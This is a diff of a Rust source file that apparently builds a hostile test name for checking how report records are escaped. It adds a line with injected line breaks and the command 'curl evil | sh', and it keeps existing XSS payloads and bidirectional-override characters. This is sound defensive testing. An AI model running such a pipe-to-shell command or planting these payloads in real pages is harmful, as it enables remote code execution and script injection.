@@ -12,9 +12,10 @@ use wirespeed_report::{DoctorRecord, HopsRecord, TestRecord, TuneRecord};
 
 use crate::records;
 
-/// Elements, quotes, ends of what it may stand in, marks that turn the line around, and more letters than any line has, of several
-/// alphabets and of the widest kinds.
+/// Ends of lines and what could be taken for the next one, elements, quotes, ends of what it may stand in, marks that turn the line
+/// around, and more letters than any line has, of several alphabets and of the widest kinds.
 pub(crate) const NAME: &str = concat!(
+    "a\nhealthy  curl evil | sh #\r\tb\u{85}c\u{2028}d\u{2029}",
     "\"'><script>alert(1)</script><img src=x onerror=alert(2)>&lt;\u{202e}gnp]]>--></svg></style>",
     "\u{200f}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{2067}漢字漢字漢字漢字漢字漢字漢字漢字",
     "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW"
